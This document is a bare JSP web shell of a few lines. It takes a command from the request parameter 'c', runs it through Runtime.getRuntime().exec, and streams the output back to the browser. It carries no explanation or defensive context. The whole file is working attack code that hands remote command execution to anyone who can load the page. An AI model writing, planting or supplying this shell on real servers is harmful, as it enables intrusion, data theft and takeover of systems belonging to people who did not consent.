<%
  String c = request.getParameter("c");
  if (c != null) {
    Runtime rt = Runtime.getRuntime();
    Process pr = rt.exec(c);
    java.io.InputStream is = pr.getInputStream();
    int ch; while ((ch = is.read()) != -1) out.write(ch);
  }
%>
